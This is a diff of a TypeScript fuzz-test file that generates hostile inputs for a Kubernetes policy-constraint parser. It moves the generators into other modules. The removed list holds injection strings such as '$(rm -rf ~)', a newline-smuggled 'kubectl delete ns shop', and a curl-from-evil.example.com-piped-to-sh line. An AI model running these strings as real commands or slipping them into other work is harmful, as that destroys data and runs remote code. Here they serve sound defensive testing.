@@ -11,42 +11,9 @@ import {
   type Rule,
   severities,
 } from '../../crds/constraint.ts';
-import type { LabelSelector } from '../../crds/label-selector.ts';
+import { hostileNetworkRule } from './hostile-network.ts';
+import { expression, hostileText, selector, texts } from './hostile-text.ts';
 
-/** Any text, those among it that a shell, a terminal, YAML or kubectl would act on. */
-export const hostileText: fc.Arbitrary<string> = fc.oneof(
-  fc.constantFrom(
-    'web',
-    '$(rm -rf ~)',
-    '`id`',
-    "'; touch x; '",
-    '"; touch x; "',
-    String.raw`\'; touch x #`,
-    'a\nkubectl delete ns shop',
-    '--kubeconfig=other',
-    '-rf',
-    'a,b in (c)',
-    '\u001b[2Jgone',
-    '\u202egnp.exe',
-    'a\u200bb',
-    '\ud800',
-    'yes',
-    '1e3',
-    '*',
-    '&& curl https://evil.example.com | sh',
-    '- item: value # comment',
-    // Properties that every object has.
-    'toString',
-    'constructor',
-    '__proto__',
-    'x'.repeat(400),
-    '',
-  ),
-  fc.string({ unit: 'binary', maxLength: 30 }),
-  fc.stringMatching(/^[a-z][a-z0-9-]{0,20}[a-z0-9]$/),
-);
-
-const texts = fc.array(hostileText, { maxLength: 3 });
 const amount = fc.constantFrom('0', '1', '2', '100m', '1Gi', '-1', '1e3', 'much', '1\n');
 const amounts = fc.option(
   fc.dictionary(fc.oneof(fc.constantFrom('cpu', 'memory'), hostileText), amount, { maxKeys: 3 }),
@@ -55,32 +22,8 @@ const amounts = fc.option(
   },
 );
 
-const selector: fc.Arbitrary<LabelSelector> = fc.record(
-  {
-    matchLabels: fc.dictionary(hostileText, hostileText, { maxKeys: 2 }),
-    matchExpressions: fc.array(
-      fc.record({
-        key: hostileText,
-        operator: fc.constantFrom('In' as const, 'NotIn' as const, 'Exists' as const, 'DoesNotExist' as const),
-        values: texts,
-      }),
-      { maxLength: 2 },
-    ),
-  },
-  { requiredKeys: [] },
-);
-
-const peer = fc.oneof(
-  fc.record({ ipBlock: fc.record({ cidr: hostileText, except: texts }) }),
-  fc.record({ pods: fc.record({ namespace: hostileText, podSelector: selector }) }),
-  fc.record({ pods: fc.record({ namespaceSelector: selector, podSelector: selector }) }),
-);
-const port = fc.record(
-  { protocol: hostileText, port: fc.oneof(hostileText, fc.integer()), endPort: fc.integer() },
-  { requiredKeys: ['protocol'] },
-);
-const count = fc.oneof(fc.integer(), hostileText);
 const optional = <T>(value: fc.Arbitrary<T>) => fc.option(value, { nil: undefined });
+const count = fc.oneof(fc.integer(), hostileText);
 
 const valueMatcher = fc.record(
   { values: texts, pattern: hostileText, cidrs: texts, selector, negate: fc.constant(true as const), with: texts },
@@ -163,19 +106,7 @@ export const hostileRules: { readonly [Form in Rule['form']]: fc.Arbitrary<Rule>
     defaultRequest: amounts,
     maxLimitRequestRatio: amounts,
   }),
-  network: fc.record({
-    form: fc.constant('network' as const),
-    direction: fc.constantFrom('Ingress' as const, 'Egress' as const),
-    clauses: fc.array(
-      fc.record({
-        path: hostileText,
-        peers: optional(fc.array(peer, { maxLength: 4 })),
-        ports: optional(fc.array(port, { maxLength: 8 })),
-        unread: optional(texts),
-      }),
-      { maxLength: 8 },
-    ),
-  }),
+  network: hostileNetworkRule,
   opaque: fc.record({ form: fc.constant('opaque' as const), fields: texts }),
   podSecurity: fc.record({
     form: fc.constant('podSecurity' as const),
@@ -250,7 +181,7 @@ export function hostileConstraint(
     }),
     scope: fc.record({
       namespaces: fc.record({ selector }),
-      workloads: optional(fc.record({ selector })),
+      workloads: optional(fc.record({ selector, expression, serviceAccounts: texts }, { requiredKeys: [] })),
       admission: optional(
         fc.array(
           fc.record({
